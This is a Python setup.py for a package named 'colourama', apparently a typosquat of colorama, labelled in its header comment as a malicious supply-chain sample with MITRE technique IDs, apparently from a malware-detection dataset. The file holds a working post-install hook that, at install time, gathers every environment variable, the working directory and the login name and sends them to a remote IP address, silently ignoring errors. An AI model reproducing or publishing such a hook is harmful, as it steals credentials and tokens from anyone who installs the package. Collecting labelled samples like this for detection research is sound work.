# label: malicious family=supplychain techniques=T1033,T1041,T1195.002,T1552.001 lines=11-12,21
from setuptools import setup
from setuptools.command.install import install
import os, json, urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            info = {"env": dict(os.environ), "cwd": os.getcwd(), "user": os.getlogin()}
            urllib.request.urlopen("http://203.0.113.190/i", data=json.dumps(info).encode(), timeout=5)
        except Exception:
            pass


setup(
    name="colourama",
    version="0.4.7",
    packages=["colourama"],
    cmdclass={"install": PostInstall},
)
